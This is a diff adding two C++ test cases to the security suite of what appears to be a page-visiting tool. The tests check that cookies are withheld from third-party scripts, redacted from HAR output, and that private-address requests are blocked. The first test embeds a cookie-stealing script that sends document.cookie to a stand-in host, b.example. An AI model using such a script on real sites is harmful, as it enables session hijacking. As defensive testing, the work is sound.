@@ -57,6 +57,47 @@ TEST_CASE("secrets: a visit gives header, login and cookies to the site alone") 
         CHECK((outcome.out + outcome.err).find(secret) == std::string::npos);
 }
 
+TEST_CASE("secrets: no script of a visited page hands the session to strangers, and no recording holds it") {
+    Two two;
+    two.own.page("/f",
+                 page_of(std::string(kForm) +
+                         "<script>new Image().src='http://b.example/c?c='+encodeURIComponent("
+                         "document.cookie);fetch('http://b.example/d/'+btoa(document.cookie))</script>"));
+    const TempFolder folder;
+    const std::string cookies = folder.write("cookies.txt",
+                                             "a.example\tFALSE\t/\tFALSE\t0\tnarrow\tSEKRET1\n"
+                                             ".a.example\tTRUE\t/\tFALSE\t0\twide\tSEKRET2\n");
+    const std::string har = folder.path() + "/visit.har", report = folder.path() + "/report.json";
+    verify(two, {"http://a.example/f", "--cookie-file", cookies, "-o", har, "-o", report});
+    std::size_t with_session = 0;
+    for (const ServedRequest& request : two.own.requests())
+        with_session += header_of(request, "cookie").find("narrow=SEKRET1") != std::string::npos;
+    CHECK(with_session > 0);
+    CHECK(two.stranger.hits("/c?c=") == 1);  // asked, with nothing in it
+    for (const ServedRequest& request : two.stranger.requests()) {
+        CAPTURE(request.target);
+        CHECK(request.target.find("SEKRET") == std::string::npos);
+        CHECK(request.target.find("U0VLUkVU") == std::string::npos);  // base64 of SEKRET
+    }
+    CHECK(read_file(har).find("\"narrow=…; wide=…\"") != std::string::npos);
+    for (const std::string& file : {har, report}) CHECK(read_file(file).find("SEKRET") == std::string::npos);
+}
+
+TEST_CASE("secrets: what a visited page asks for in here is not asked for, and said") {
+    Two two;
+    const std::string inner = two.stranger.url("/inner.js");  // on 127.0.0.1, which the page may not lead to
+    two.own.page("/f", page_of(std::string(kForm) + "<script>var s=document.createElement('script');s.src='" +
+                               inner + "';document.body.append(s);fetch('" + two.stranger.url("/api") +
+                               "').catch(()=>{})</script>"));
+    const Outcome outcome = verify(two, {"http://a.example/f"});
+    CHECK(outcome.exit_code == 3);
+    CHECK(outcome.out.find(
+              "2 requests of a browser visit were not made: the address of 127.0.0.1 is private or "
+              "local, and a public page leads to it") != std::string::npos);
+    CHECK(two.stranger.hits("/inner.js") == 0);
+    CHECK(two.stranger.hits("/api") == 0);
+}
+
 TEST_CASE("secrets: inspecting a capture contacts nobody") {
     const Two two;
     const TempFolder folder;
